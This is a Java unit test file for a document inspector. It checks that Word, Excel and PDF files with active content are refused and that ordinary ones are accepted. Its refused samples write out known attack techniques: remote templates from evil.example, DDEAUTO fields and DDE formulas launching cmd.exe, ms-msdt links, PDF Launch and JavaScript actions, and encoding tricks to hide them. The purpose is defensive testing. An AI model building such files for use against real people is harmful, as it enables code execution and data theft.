package org.huhang.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.huhang.document.Samples.utf8;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;
import java.util.zip.DeflaterOutputStream;
import org.huhang.document.FileRefused.Reason;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Files of offices that do something when they are opened, in every disguise that is known, and the many that do nothing. */
class ActiveContentTests {

    private static final String RELATION =
            "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='r1'"
                    + " Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s' Target='%s'"
                    + " %s/></Relationships>";
    private static final String WORD =
            "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>%s</w:document>";
    private static final String SHEET =
            "<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>%s</worksheet>";

    @TempDir
    private Path folder;

    private final Inspection inspection = new Inspection();

    static Stream<Arguments> refused() {
        return Stream.concat(
                relations().map(relation -> arguments(relation, word("word/_rels/document.xml.rels", utf8(relation)))),
                Stream.concat(parts(), pdfs()));
    }

    private static Stream<String> relations() {
        return Stream.of(
                relation("attachedTemplate", "http://evil.example/t.dotm", "TargetMode='External'"),
                relation("attached&#84;emplate", "http://evil.example/t.dotm", "TargetMode='External'"),
                relation("attachedTemplate", "http://evil.example/t.dotm", "TargetMode='E&#120;ternal'"),
                relation("attachedTemplate", "\\\\evil.example\\t.dotm", ""),
                relation("image", "http://evil.example/a.png", "TargetMode='External'"),
                relation("image", "file:///c:/a.png", ""),
                relation("image", "//evil.example/a.png", ""),
                relation("oleObject", "file:///c:/a.xls", "TargetMode='External'"),
                relation("oleObject", "embeddings/a.ole", ""),
                relation("frame", "http://evil.example/", "TargetMode='External'"),
                relation("subDocument", "http://evil.example/a.docx", "TargetMode='External'"),
                relation("aFChunk", "chunk.xml", ""),
                relation("package", "embeddings/a.docx", ""),
                relation("control", "activeX1.xml", ""),
                relation("externalLink", "externalLinks/externalLink1.xml", ""),
                relation("xlMacrosheet", "macrosheets/sheet1.xml", ""),
                relation("somethingNew", "new.xml", ""),
                relation("hyperlink", "ms-msdt:/id", "TargetMode='External'"),
                relation("hyperlink", "javascript:alert(1)", "TargetMode='External'"),
                relation("hyperlink", "file://evil.example/a", "TargetMode='External'"),
                relation("hyperlink", "\\\\evil.example\\a", "TargetMode='External'"),
                relation("hyperlink", "file:///c:/windows/system32/calc.exe", "TargetMode='External'"),
                relation("hyperlink", "FILE:///C:/windows/system32/calc.exe", "TargetMode='External'"),
                relation("hyperlink", "c:/windows/system32/calc.exe", "TargetMode='External'"),
                relation("hyperlink", "//evil.example/a", "TargetMode='External'"),
                relation("hyperlink", "../calc.exe", "TargetMode='External'"),
                relation("hyperlink", "calc.exe", ""),
                relation("hyperlink", "search-ms:query=a", "TargetMode='External'"));
    }

    private static Stream<Arguments> parts() {
        var template = relation("attachedTemplate", "http://evil.example/t.dotm", "TargetMode='External'");
        return Stream.of(
                arguments(
                        "relations in UTF-16",
                        word("word/_rels/settings.xml.rels", template.getBytes(StandardCharsets.UTF_16))),
                arguments(
                        "an entity for the type",
                        word(
                                "word/_rels/settings.xml.rels",
                                utf8("<!DOCTYPE x [<!ENTITY e 'External'>]>" + template.replace("External", "&e;")))),
                arguments(
                        "a document type",
                        word("word/extra.xml", utf8("<!DOCTYPE x SYSTEM 'http://evil.example/'><x/>"))),
                arguments("an object", word("word/embeddings/oleObject1.bin", new byte[8])),
                arguments("an object of another name", word("word/embeddings/oleObject1.ole", new byte[8])),
                arguments("a workbook", word("word/embeddings/sheet.xlsx", new byte[8])),
                arguments("a program", word("word/media/run.exe", utf8("MZ"))),
                arguments("a page", word("word/chunk.html", utf8("<script>"))),
                arguments("a way out", word("../../start.xml", utf8("<x/>"))),
                arguments("a place of its own", word("evil/start.xml", utf8("<x/>"))),
                arguments("chunk", word("word/document.xml", utf8(WORD.formatted("<w:altChunk/>")))),
                arguments("field", field("<w:fldSimple w:instr=' DDEAUTO c:\\\\cmd.exe \"/k\" '/>")),
                arguments("field in pieces", field(begin() + text("DDE") + text("AUTO c:\\\\cmd.exe") + end())),
                arguments(
                        "field by a field",
                        field(begin() + begin() + text("QUOTE 68 68 69") + end() + text(" x") + end())),
                arguments(
                        "field after another",
                        field(begin() + text("PAGE") + end() + begin() + text(" \"DDE\" x") + end())),
                arguments("text from elsewhere", field(begin() + text("INCLUDETEXT \"http://evil.example/\"") + end())),
                arguments(
                        "link field into the machine",
                        field("<w:fldSimple w:instr=' HYPERLINK \"file:///c:/a.exe\" '/>")),
                arguments("link field to a program", field(begin() + text("HYPERLINK calc.exe") + end())),
                arguments("link field to a server", field(begin() + text("HYPERLINK \"\\\\\\\\evil\\\\a\"") + end())),
                arguments(
                        "link field behind a switch",
                        field(begin() + text("HYPERLINK \\l \"x\" \"ms-msdt:/id\"") + end())),
                arguments(
                        "link field made by a field",
                        field(begin() + text("HYPERLINK ") + begin() + text("QUOTE 102 105") + end() + end())),
                arguments(
                        "picture fetched on opening",
                        field(begin() + text("INCLUDEPICTURE \"http://evil.example/a.png\" \\d") + end())),
                arguments(
                        "picture of a server",
                        field(begin() + text("INCLUDEPICTURE \"\\\\\\\\evil\\\\a.png\"") + end())),
                arguments("formula that asks a page", sheet("<f>_xlfn.WEBSERVICE(\"http://evil.example/\")</f>")),
                arguments("formula that asks a program", sheet("<f>1+RTD(\"a\",,\"b\")</f>")),
                arguments("formula", sheet("<f>cmd|'/c calc'!A0</f>")),
                arguments("formula in pieces", sheet("<f>cmd<![CDATA[|]]>'/c calc'!A0</f>")),
                arguments("link", sheet("<ddeLink ddeService='cmd'/>")));
    }

    private static Stream<Arguments> pdfs() {
        var script = "<</S/JavaScript/JS(app.alert\\(1\\))>>";
        var packed = "1 0 " + script;
        return Stream.of(
                arguments("launch", pdf("<</OpenAction<</S/Launch/F(cmd.exe)>>>>")),
                arguments("script", pdf("<</OpenAction" + script + ">>")),
                arguments("script, spelled otherwise", pdf("<</OpenAction<</S/J#61vaScript>>>>")),
                arguments("script without its kind", pdf("<</OpenAction<</S 9 0 R/JS(x)>>>>")),
                arguments("file", pdf("<</Names<</EmbeddedFiles 5 0 R>>>>")),
                arguments("form of its own", pdf("<</AcroForm<</XFA 5 0 R>>>>")),
                arguments("encrypted", pdf("<</Encrypt 5 0 R>>")),
                arguments(
                        "script in a stream that is none",
                        pdf("<</Length 90>>stream\n3 0 obj" + script + "endobj\nendstream")),
                arguments(
                        "script in packed objects",
                        pdfStream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", packed(packed))),
                arguments(
                        "script in objects that do not say so",
                        pdfStream("/Type 9 0 R/Filter/FlateDecode", packed(packed))),
                arguments(
                        "script far behind in packed objects",
                        pdfStream("/Type/ObjStm/Filter/FlateDecode", packed("1 0 " + "x ".repeat(16_380) + script))),
                arguments(
                        "script behind a text that looks like a stream",
                        pdfStream("/X(stream\nendstream endobj)/Type/ObjStm/Filter/FlateDecode", packed(packed))),
                arguments("objects packed otherwise", pdfStream("/Type/ObjStm/Filter/LZWDecode", utf8("x"))),
                arguments(
                        "objects turned around",
                        pdfStream("/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>", packed("1 0 <<>>"))),
                arguments(
                        "objects packed twice",
                        pdfStream("/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]", utf8("313020"))),
                arguments(
                        "objects that say so by their numbers only, in digits",
                        pdfStream("/N 1/First 4/Filter/ASCIIHexDecode", utf8("313020"))),
                arguments(
                        "objects that say so by their numbers only, packed twice",
                        pdfStream("/N 1/First 4/Filter[/FlateDecode /FlateDecode]", packed(packed(packed)))),
                arguments(
                        "objects that begin like no text",
                        pdfStream("/N 1/First 5/Filter/FlateDecode", packed("\u000b" + packed))),
                arguments(
                        "objects that begin like no text, their numbers elsewhere",
                        pdfStream("/N 8 0 R/F#69rst 9 0 R/Filter/FlateDecode", packed("\u000b" + packed))),
                arguments("objects in lines", pdfStream("/N 1/First 4/Filter/LZWDecode", utf8("x"))),
                arguments("objects in a picture", pdfStream("/N 1/First 4/Filter/CCITTFaxDecode", utf8("x"))),
                arguments("objects, their packing elsewhere", pdfStream("/N 1/First 4/Filter 9 0 R", packed(packed))),
                arguments("objects in short form", pdfStream("/N 1/First 4/Filter/A85", utf8("x"))),
                arguments("objects that are damaged", pdfStream("/N 1/First 4/Filter/FlateDecode", utf8("xyz"))),
                arguments(
                        "objects behind what looks like the end of a stream",
                        pdfStream("/N 1/First 4/X(>>stream\nendstream)/Filter/LZWDecode", utf8("x"))),
                arguments(
                        "objects behind what looks like another object",
                        pdfStream("/N 1/First 4/X(\\) 3 0 obj<<)/Filter/LZWDecode", utf8("x"))),
                arguments(
                        "objects behind a remark", pdfStream("/N 1/First 4 % 3 0 obj<<\n/Filter/LZWDecode", utf8("x"))),
                arguments(
                        "objects behind digits that are none",
                        pdfStream("/N 1/First 4/X<3<<3>/Filter/LZWDecode", utf8("x"))),
                arguments("packed in a way nobody knows", pdfStream("/Filter/BrotliDecode", utf8("x"))),
                arguments(
                        "objects after a word in the line of the stream",
                        Samples.join(
                                utf8("%PDF-1.7\n2 0 obj<</N 1/First 5/Filter/FlateDecode>>stream x\n"),
                                packed("\u000b" + packed),
                                utf8("\nendstream endobj\n%%EOF\n"))),
                arguments(
                        "objects behind a remark before the stream",
                        Samples.join(
                                utf8("%PDF-1.7\n2 0 obj<</N 1/First 5/Filter/FlateDecode>> %x\nstream\n"),
                                packed("\u000b" + packed),
                                utf8("\nendstream endobj\n%%EOF\n"))),
                arguments("link to a program", pdf("<</OpenAction<</S/URI/URI(file:///c:/windows/calc.exe)>>>>")),
                arguments("link in octal", pdf("<</A<</S/URI/URI(\\146ile:///c:/a.exe)>>>>")),
                arguments("link in pieces", pdf("<</A<</S/URI/URI (\\\nfi\\\nle:///c:/a.exe)>>>>")),
                arguments("link in digits", pdf("<</A<</S/URI/URI <66696c653a2f2f2f633a2f612e657865>>>>>")),
                arguments("link of two bytes", pdf("<</A<</S/URI/URI <FEFF00660069006c0065003a>>>>>")),
                arguments("link elsewhere", pdf("<</A<</S/URI/URI 9 0 R>>>>")),
                arguments("link behind a remark", pdf("<</A<</S/URI/URI%x\n(file:///c:/a.exe)>>>>")),
                arguments("link to a server", pdf("<</A<</S/URI/URI(\\\\\\\\evil\\\\a)>>>>")),
                arguments("link to a script", pdf("<</A<</S/URI/URI( JavaScript:alert\\(1\\))>>>>")),
                arguments("link without an end", pdf("<</A<</S/URI/URI(")),
                arguments(
                        "link in packed objects",
                        pdfStream(
                                "/Type/ObjStm/N 1/First 4/Filter/FlateDecode",
                                packed("1 0 " + "x ".repeat(8_170) + "<</S/URI/URI" + " ".repeat(40)
                                        + "(file:///c:/a.exe)>>"))),
                arguments(
                        "link far behind its name in packed objects",
                        pdfStream(
                                "/Type/ObjStm/N 1/First 4/Filter/FlateDecode",
                                packed("<</S/URI/URI" + " ".repeat(40_000) + "(file:///c:/a.exe)>>"))),
                arguments("film", pdf("<</A<</S/Movie/T(x)>>>>")),
                arguments("form that is sent", pdf("<</A<</S/SubmitForm/F(http://evil.example/)>>>>")),
                arguments("swells", pdfStream("/Filter/FlateDecode", packed("1 ".repeat(60_000_000)))));
    }

    @ParameterizedTest
    @MethodSource
    void refused(String what, byte[] content) throws IOException {
        var file = file(content);

        assertThatThrownBy(() -> inspection.typeOf(file, "a"))
                .isInstanceOfSatisfying(FileRefused.class, refused -> assertThat(refused.reason())
                        .isIn(Reason.EMBEDDED, Reason.MACROS, Reason.PROTECTED, Reason.UNPACKS_TOO_LARGE));
    }

    static Stream<Arguments> taken() {
        return Stream.of(
                arguments(
                        "a link",
                        word(
                                "word/_rels/document.xml.rels",
                                utf8(relation("hyperlink", "https://www.gov.cn/?a=b:c#d", "TargetMode='External'")))),
                arguments(
                        "a link inside",
                        word("word/_rels/document.xml.rels", utf8(relation("hyperlink", "#_Toc1", "")))),
                arguments(
                        "a mail address",
                        word(
                                "word/_rels/document.xml.rels",
                                utf8(relation("hyperlink", "mailto:a@example.cn", "TargetMode='External'")))),
                arguments(
                        "a picture",
                        word("word/_rels/document.xml.rels", utf8(relation("image", "media/image1.png", "")))),
                arguments(
                        "a picture from the top",
                        word("word/_rels/document.xml.rels", utf8(relation("image", "/word/media/image1.png", "")))),
                arguments("a Chinese picture name", word("word/media/照片 1.jpeg", new byte[8])),
                arguments("page numbers", field(begin() + text(" PAGE \\* MERGEFORMAT ") + end())),
                arguments(
                        "a table of contents",
                        field(begin()
                                + text(" TOC \\o \"1-3\" ")
                                + separate()
                                + begin()
                                + text("HYPERLINK \\l \"_Toc1\"")
                                + separate()
                                + end()
                                + end())),
                arguments(
                        "a picture that was pasted",
                        field(begin() + text("INCLUDEPICTURE \"C:\\\\a.jpg\" \\* MERGEFORMATINET") + end())),
                arguments(
                        "a link field",
                        field(begin()
                                + text("HYPERLINK \"https://www.gov.cn/\" \\o \"注意\"")
                                + separate()
                                + begin()
                                + text("PAGEREF x")
                                + end()
                                + end())),
                arguments("a function of its own", sheet("<f>RECALL(1)+\"RTD(\"</f>")),
                arguments("a formula", sheet("<f>SUM(A1:A3)&amp;\"甲|乙\"</f>")),
                arguments("a sheet with an odd name", sheet("<f>'甲|乙'!A1</f>")),
                arguments(
                        "a fraction",
                        field("<m:f xmlns:m='http://schemas.openxmlformats.org/officeDocument/2006/math'>|x|</m:f>")),
                arguments("a PDF with a link", pdf("<</A<</S/URI/URI(https://www.gov.cn/)>>>>")),
                arguments("a PDF with a mail address", pdf("<</A<</S/URI/URI(MAILTO:a@example.cn)>>>>")),
                arguments("a PDF with an address in digits", pdf("<</A<</S/URI/URI<68747470733A2F2F612E636E>>>>>")),
                arguments("a PDF with a dictionary of links", pdf("<</URI<</Base(https://www.gov.cn/)>>>>")),
                arguments(
                        "a PDF with a picture",
                        pdfStream("/Subtype/Image/Filter/CCITTFaxDecode/DecodeParms<</K -1>>", utf8("x"))),
                arguments(
                        "a PDF with a picture packed twice",
                        pdfStream("/Subtype/Image/Filter[/ASCII85Decode/DCTDecode]", utf8("x"))),
                arguments(
                        "a PDF with a font that says how long it is",
                        pdfStream("/N 3/Length1 5/X(\\(a\\)<<)/Y<0A 0b>/Filter/FlateDecode", packed("\1\0\2/JS x"))),
                arguments("a PDF that speaks of a stream", pdf("<</Title(down stream 100% stream\nendstream)>>")),
                arguments("a PDF that opens at a page", pdf("<</OpenAction[3 0 R/Fit]>>")),
                arguments(
                        "a PDF with packed objects",
                        pdfStream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", packed("1 0 <</Type/Page>>"))),
                arguments(
                        "a PDF with a drawing",
                        pdfStream("/Filter/FlateDecode", packed("0.1 w 1 0 0 1 0 0 cm /F1 12 Tf"))),
                arguments("a PDF with a font", pdfStream("/Filter/FlateDecode", packed("\1\0\2/JS x"))));
    }

    @ParameterizedTest
    @MethodSource
    void taken(String what, byte[] content) throws IOException {
        var file = file(content);

        assertThatCode(() -> inspection.typeOf(file, "a")).doesNotThrowAnyException();
    }

    private Path file(byte[] content) throws IOException {
        return Files.write(folder.resolve("a"), content);
    }

    private static String relation(String kind, String target, String mode) {
        return RELATION.formatted(kind, target, mode);
    }

    private static byte[] word(String name, byte[] content) {
        return Samples.with(Samples.wordEntries(), name, content);
    }

    private static byte[] field(String content) {
        return word("word/document.xml", utf8(WORD.formatted(content)));
    }

    private static byte[] sheet(String content) {
        return Samples.with(Samples.excelEntries(), "xl/worksheets/sheet1.xml", utf8(SHEET.formatted(content)));
    }

    private static String begin() {
        return "<w:fldChar w:fldCharType='begin'/>";
    }

    private static String separate() {
        return "<w:fldChar w:fldCharType='separate'/>";
    }

    private static String end() {
        return "<w:fldChar w:fldCharType='end'/>";
    }

    private static String text(String instruction) {
        return "<w:instrText>" + instruction + "</w:instrText>";
    }

    private static byte[] pdf(String content) {
        return utf8("%PDF-1.7\n1 0 obj" + content + "endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");
    }

    private static byte[] pdfStream(String dictionary, byte[] content) {
        return Samples.join(
                utf8("%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj 2 0 obj<<" + dictionary + ">>stream\r\n"),
                content,
                utf8("\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"));
    }

    private static byte[] packed(String text) {
        return packed(utf8(text));
    }

    private static byte[] packed(byte[] content) {
        var out = new ByteArrayOutputStream();
        try (var deflater = new DeflaterOutputStream(out)) {
            deflater.write(content);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
